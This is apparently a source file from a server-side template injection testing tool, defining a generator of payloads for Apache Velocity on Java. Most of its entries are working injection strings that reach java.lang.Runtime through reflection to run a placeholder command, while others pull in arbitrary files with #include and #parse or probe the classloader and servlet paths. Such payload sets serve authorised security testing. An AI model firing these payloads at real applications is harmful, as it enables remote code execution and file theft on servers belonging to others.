// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Velocity on Java: from any object to its class, and on to the run-time. */
export const velocityClasses = templateGenerator({
  name: 'velocity-classes',
  engines: ['velocity-java'],
  rules: {
    start: [
      "#set($e='e')$e.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('{command}')",
      '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("{command}"))$p.waitFor()',
      '$class.inspect("java.lang.Runtime").type.getRuntime().exec("{command}").waitFor()',
      "#include('{file}')",
      "#parse('{file}')",
      '#set($r=${letters:a}.class.forName("java.lang.ProcessBuilder"))$r',
      '$application.getClass().getClassLoader()',
      '$request.getServletContext().getRealPath("/").class',
    ],
  },
});
